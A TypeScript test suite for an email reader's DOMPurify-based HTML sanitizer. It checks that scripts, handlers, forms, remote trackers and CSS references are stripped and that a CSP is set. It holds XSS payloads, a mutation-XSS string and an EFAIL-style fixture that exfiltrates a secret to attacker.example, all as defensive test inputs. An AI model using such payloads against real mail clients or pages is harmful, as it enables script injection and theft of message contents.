/**
 * The reader's HTML sanitizer (renderer/src/lib/sanitize.ts). DOMPurify
 * needs a real DOM, which Node does not have: the sanitizer is a pure
 * function of a DOMPurify instance, and it runs here in Chromium with the
 * same DOMPurify the app bundles. Skipped when /usr/bin/chromium is missing.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { chromium, type Browser, type Page } from 'playwright-core';
import { messageFrameCsp } from '../../main/services/message-frames.ts';
import { bundleRenderer } from '../support/renderer/bundle.ts';

const CHROMIUM = '/usr/bin/chromium';
const skip = !existsSync(CHROMIUM) && 'Chromium is not installed';
let browser: Browser;
let page: Page;

before(async () => {
  if (skip) return;
  const { code } = await bundleRenderer(
    {
      contents: [
        "import DOMPurify from 'dompurify';",
        "import { sanitizeMailHtml, cleanCss, frameDocument } from './lib/sanitize.ts';",
        'const purify = DOMPurify(window);',
        '(window as any).__sanitize = (html: string, allowRemote: boolean) => sanitizeMailHtml(purify, html, { allowRemote });',
        '(window as any).__cleanCss = (css: string, allowRemote: boolean) => cleanCss(css, allowRemote);',
        '(window as any).__frameDocument = frameDocument;',
      ].join('\n'),
    },
    'client',
    'browser',
  );
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
  page = await browser.newPage();
  await page.route('**/*', (route) => route.abort()); // nothing may be fetched while sanitizing
  await page.setContent('<!doctype html><html><body></body></html>');
  await page.addScriptTag({ content: code });
});

after(async () => {
  await browser?.close();
});

interface Clean {
  html: string;
  blockedRemote: number;
  allowedRemote: number;
  remoteUrls: string[];
}

function sanitize(html: string | string[], allowRemote = false): Promise<Clean> {
  return page.evaluate(([h, a]) => (window as any).__sanitize(h, a), [html, allowRemote] as const);
}

test('scripts, event handlers, javascript: links, forms, frames and plugins are removed', { skip }, async () => {
  const { html } = await sanitize(
    [
      '<p onclick="alert(1)">Hi <script>alert(2)</script><b>there</b></p>',
      '<img src="data:image/png;base64,AAAA" onerror="alert(3)">',
      '<a href="javascript:alert(4)">x</a>',
      '<form action="https://evil.example/post"><input name="password"><button formaction="https://evil.example">Go</button><textarea></textarea><select><option>1</option></select></form>',
      '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><link rel="stylesheet" href="https://evil.example/a.css">',
      '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
      '<svg><script>alert(5)</script><a xlink:href="javascript:alert(6)"><text>t</text></a></svg>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>',
      '<audio src="https://evil.example/a.mp3"></audio><video poster="https://evil.example/p.png"></video>',
    ].join(''),
  );
  assert.match(html, /<b>there<\/b>/);
  for (const bad of [
    /<script/i,
    /onclick|onerror/i,
    /javascript:/i,
    /<form|<input|<button|<textarea|<select/i,
    /<iframe|<object|<embed|<link|<meta|<base/i,
    /evil\.example/,
    /<audio|<video/i,
  ]) {
    assert.doesNotMatch(html, bad);
  }
});

test(
  'remote references are removed and counted: src, srcset, background, poster, CSS url(), @import, image-set, svg href',
  { skip },
  async () => {
    const input = [
      '<img src="https://tracker.example/p.png" alt="pixel">',
      '<img src="http://plain.example/p.png">',
      '<img srcset="https://img.example/a.png 1x, https://img.example/b.png 2x">',
      '<table background="https://img.example/bg.png"><tr><td style="background-image: url(\'https://img.example/td.png\'); color: red">cell</td></tr></table>',
      '<div style="background: url(data:image/png;base64,AAAA)">inline data stays</div>',
      '<style>@import url("https://fonts.example/a.css"); p { color: blue; background: url(https://img.example/p.png) } h1 { background: image-set("https://img.example/h.png" 1x) }</style>',
      '<p style="background:u\\72l(https://img.example/escaped.png)">escaped</p>',
      '<svg><image href="https://img.example/i.svg"></image></svg>',
      '<img src="cid:part1@example">',
      '<a href="https://example.org/page">a link</a> <a href="mailto:bob@example.org">mail</a>',
    ].join('');
    const clean = await sanitize(input);
    assert.doesNotMatch(clean.html, /tracker\.example|plain\.example|img\.example|fonts\.example|cid:|@import/);
    assert.match(clean.html, /alt="pixel"/, 'the image stays, without its source');
    assert.match(clean.html, /color: red/, 'the rest of the style stays');
    assert.match(clean.html, /url\(data:image\/png;base64,AAAA\)/, 'data: URLs are part of the message');
    assert.match(clean.html, /<style>[^<]*color: blue[^<]*<\/style>/, 'the <style> stays, cleaned');
    assert.match(clean.html, /<a href="https:\/\/example.org\/page" rel="noopener noreferrer" title="https:\/\/example.org\/page">/);
    assert.match(clean.html, /<a href="mailto:bob@example.org"/);
    // Counted: what consent would load (the https images); http:, cid:, @import and the escaped style go uncounted.
    assert.equal(clean.blockedRemote, 7);
    assert.equal(clean.allowedRemote, 0);
    assert.deepEqual(clean.remoteUrls, []);
  },
);

test('CSS: local references stay, unclosed or disguised ones take the whole rule with them', { skip }, async () => {
  const css = (text: string, allow = false) => page.evaluate(([t, a]) => (window as any).__cleanCss(t, a), [text, allow] as const);
  assert.equal(
    await css('a { background: image-set(url(data:image/png;base64,AA) 1x) }'),
    'a { background: image-set(url(data:image/png;base64,AA) 1x) }',
  );
  assert.equal(await css('a { background: image-set("https://evil.example/x.png" 1x) }'), 'a { background: none }');
  assert.equal(await css('a { background: image-set("https://evil.example/x.png" 1x'), '', 'unclosed: the browser would close it');
  assert.equal(await css('a { background: url(https://evil.example/x.png'), '');
  assert.equal(await css('a { background: u\\72l(https://evil.example/x.png) }'), '');
  assert.equal(await css('a { color: red } /* url(https://evil.example) */'), 'a { color: red }  ');
  assert.equal(await css('a { background: url("https://ok.example/x.png") }', true), 'a { background: url("https://ok.example/x.png") }');
});

test('with the user\u2019s consent, https images load (http and other schemes still do not, and are not counted)', { skip }, async () => {
  const clean = await sanitize(
    '<img src="https://img.example/a.png"><img src="http://img.example/b.png"><p style="background:url(https://img.example/c.png)">x</p><style>@import url(https://fonts.example/a.css);</style>',
    true,
  );
  assert.match(clean.html, /src="https:\/\/img.example\/a.png"/);
  assert.doesNotMatch(clean.html, /http:\/\/img.example/);
  assert.match(clean.html, /url\(https:\/\/img.example\/c.png\)/);
  assert.doesNotMatch(clean.html, /@import|fonts\.example/, '@import never (style-src of the frame allows no URL anyway)');
  assert.equal(clean.allowedRemote, 2);
  assert.equal(clean.blockedRemote, 0);
  assert.deepEqual(clean.remoteUrls.sort(), ['https://img.example/a.png', 'https://img.example/c.png']);
});

test(
  'the frame document carries its own CSP: nothing but inline styles and data: images, https: images only with consent',
  { skip },
  async () => {
    const [blocked, allowed] = await page.evaluate(() => [
      (window as any).__frameDocument('<p>x</p>', false),
      (window as any).__frameDocument('<p>x</p>', true),
    ]);
    assert.match(
      blocked,
      /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:; font-src data:">/,
    );
    assert.match(allowed, /content="default-src 'none'; style-src 'unsafe-inline'; img-src data: https:; font-src data:"/);
    assert.match(blocked, /<meta name="referrer" content="no-referrer">/);
    assert.match(blocked, /<body><p>x<\/p><\/body>/);
  },
);

test('a sanitized message in a frame with an empty sandbox loads nothing and runs nothing', { skip }, async () => {
  const requests: string[] = [];
  const p = await browser.newPage();
  await p.route('**/*', (route) => {
    requests.push(route.request().url());
    return route.abort();
  });
  await p.setContent('<!doctype html><html><body></body></html>');
  const { code } = await bundleRenderer(
    {
      contents:
        "import DOMPurify from 'dompurify'; import { sanitizeMailHtml, frameDocument } from './lib/sanitize.ts'; (window as any).__doc = (h: string) => frameDocument(sanitizeMailHtml(DOMPurify(window), h, { allowRemote: false }).html, false);",
    },
    'client',
    'browser',
  );
  await p.addScriptTag({ content: code });
  await p.evaluate(() => {
    (window as any).ran = false;
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', '');
    frame.srcdoc = (window as any).__doc(
      '<img src="https://tracker.example/x.png"><p style="background:url(https://tracker.example/y.png)">hi</p><img src=x onerror="parent.ran=true"><svg onload="parent.ran=true"></svg>',
    );
    document.body.append(frame);
  });
  await p.waitForTimeout(300);
  assert.equal(await p.evaluate(() => (window as any).ran), false);
  assert.deepEqual(
    requests.filter((u) => /tracker\.example/.test(u)),
    [],
  );
  await p.close();
});

test('SVG presentation attributes with url(): fragments and cid: parts stay, anything else goes and is counted', { skip }, async () => {
  const attrs = ['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'marker-mid', 'marker-end'];
  const remote = attrs.map((a) => `<path d="M0 0L9 9" ${a}="url(https://svg.example/${a}.svg#x)"/>`).join('');
  const local = attrs
    .map((a) => `<path d="M0 0L9 9" ${a}="url(#own-${a})"/><path d="M0 0L9 9" ${a}="url(cid:part-${a}@example)"/>`)
    .join('');
  const styled = '<rect width="9" height="9" style="fill: url(https://svg.example/style-fill.svg#x); stroke: url(#own-stroke)"/>';
  const clean = await sanitize(`<svg>${remote}${local}${styled}<rect fill="red" stroke="url(#g) blue"/></svg>`);
  assert.doesNotMatch(clean.html, /svg\.example/);
  for (const a of attrs) {
    assert.match(clean.html, new RegExp(`${a}="url\\(#own-${a}\\)"`), `${a}: a fragment of the message stays`);
    assert.match(clean.html, new RegExp(`${a}="url\\(cid:part-${a}@example\\)"`), `${a}: a part of the message stays`);
  }
  assert.match(clean.html, /fill="red"/);
  assert.match(clean.html, /stroke: url\(#own-stroke\)/);
  // filter: Chromium never loads one from another origin, so consent would not bring it: removed, not counted.
  assert.equal(clean.blockedRemote, attrs.length - 1 + 1);
  const allowed = await sanitize(`<svg>${remote}${styled}</svg>`, true);
  assert.equal(allowed.allowedRemote, clean.blockedRemote, 'consent keeps exactly what was counted');
  assert.doesNotMatch(allowed.html, /filter="url\(https/);
  assert.ok(allowed.remoteUrls.includes('https://svg.example/fill.svg'), 'listed as it is asked for, without the fragment');
});

test('position: fixed and sticky are dropped from style attributes and <style> blocks', { skip }, async () => {
  const clean = await sanitize(
    '<style>.bar { position: fixed; top: 0 } .s { position:-webkit-sticky } .t { POSITION : Sticky !important; color: red } .r { position: relative }' +
      '.v { --p: fixed; position: var(--p) } .w{position:/* */fixed} .bp { background-position: left top }</style>' +
      '<div class="bar" style="position:fixed;top:0;left:0;background:green">Signed and encrypted</div><p style="position: sticky">x</p>',
  );
  assert.doesNotMatch(clean.html, /position\s*:\s*(fixed|sticky|-webkit-sticky|var)/i);
  assert.match(clean.html, /position: relative/);
  assert.match(clean.html, /background-position: left top/);
  assert.match(clean.html, /color: red/);
  assert.match(clean.html, /background:green/);
});

test('HTML parts are sanitized one by one: an unclosed tag in one part cannot swallow the next (EFAIL)', { skip }, async () => {
  const parts = ['<html><body><img src="https://attacker.example/exfil?', '<p>The launch code is TOPSECRET.</p>', '"></body></html>'];
  for (const allow of [false, true]) {
    const clean = await sanitize(parts, allow);
    // The secret is text in its own part, never inside an attribute of the attacker's image.
    assert.match(clean.html, /<p>The launch code is TOPSECRET\.<\/p>/);
    assert.doesNotMatch(clean.html, /attacker\.example/);
    assert.ok(!clean.remoteUrls.some((u) => /TOPSECRET/.test(u)));
  }
  // The same HTML as one part shows what the separation prevents.
  const joined = await sanitize(parts.join('\n'), true);
  assert.match(joined.remoteUrls.join(' '), /TOPSECRET/, 'joined first, the secret would be in the image URL');
  // An unclosed <style> and <title> end with their part too; inline style ids do not collide across parts.
  const styled = await sanitize(['<style>p { color: red }', '<p style="color: blue">second</p>', '<p style="color: green">third</p>']);
  assert.match(styled.html, /<p data-sp-style="0">second<\/p>/);
  assert.match(styled.html, /<p data-sp-style="1">third<\/p>/);
});

/** A 1x1 PNG for the remote server of the consent test. */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');

/** Every request a sanitized message makes when shown in a frame with the app's frame policy (messageFrameCsp). */
async function requestsOf(html: string, allowRemote: boolean): Promise<string[]> {
  const doc = await page.evaluate(([h, a]) => (window as any).__frameDocument((window as any).__sanitize(h, a).html, a), [
    html,
    allowRemote,
  ] as const);
  const p = await browser.newPage();
  const requests: string[] = [];
  await p.route('**/*', (route) => {
    const url = route.request().url();
    if (url === 'https://frame.test/message') {
      return route.fulfill({
        status: 200,
        headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': messageFrameCsp(allowRemote) },
        body: doc,
      });
    }
    requests.push(url);
    return route.fulfill({ status: 200, contentType: 'image/png', body: PNG });
  });
  await p.goto('https://frame.test/message');
  await p.waitForTimeout(1000);
  await p.close();
  return [...new Set(requests)].sort();
}

test(
  'remote-content consent loads exactly what it counts: nothing counted that it would not load, nothing loaded that was not counted',
  { skip },
  async () => {
    const mail = [
      '<style>@import url(https://r.example/import.css); @font-face { font-family: F; src: url(https://r.example/font.woff2) } p.f { font-family: F }',
      '.bg { background: url("https://r.example/class-bg.png"); width: 9px; height: 9px } .set { background-image: image-set("https://r.example/set.png" 1x); width: 9px; height: 9px }',
      '.fl { filter: url(https://r.example/filter.svg#f) }</style>',
      '<p class="f fl">text</p><div class="bg"></div><div class="set"></div>',
      '<img src="https://r.example/img.png"><img src="http://r.example/http.png"><img src="cid:part@example"><img lowsrc="https://r.example/lowsrc.png">',
      '<table background="https://r.example/table.png"><tr><td style="background-image:url(https://r.example/td.png)">cell</td></tr></table>',
      '<div style="cursor: url(https://r.example/cursor.png), auto">cursor</div>',
      '<svg width="60" height="60"><image href="https://r.example/svg-image.png" width="9" height="9"/>',
      '<rect width="20" height="20" fill="url(https://r.example/fill.svg#g)" mask="url(https://r.example/mask.svg#m)"/>',
      '<rect width="20" height="20" clip-path="url(https://r.example/clip.svg#c)" filter="url(https://r.example/filter-attr.svg#f)"/>',
      '<line x1="0" y1="0" x2="50" y2="50" stroke="red" marker-end="url(https://r.example/marker.svg#m)"/>',
      '<use href="https://r.example/use.svg#u"/></svg>',
    ].join('');
    const blocked = await sanitize(mail, false);
    const allowed = await sanitize(mail, true);
    assert.equal(allowed.allowedRemote, blocked.blockedRemote, 'what is counted without consent is what consent keeps');
    assert.equal(blocked.allowedRemote, 0);
    assert.equal(allowed.blockedRemote, 0);
    assert.deepEqual(await requestsOf(mail, false), [], 'without consent nothing is asked for');
    const loaded = await requestsOf(mail, true);
    assert.deepEqual(loaded, [...allowed.remoteUrls].sort(), 'with consent: exactly the counted URLs');
    assert.equal(loaded.length, allowed.allowedRemote, 'one request per counted reference');
  },
);
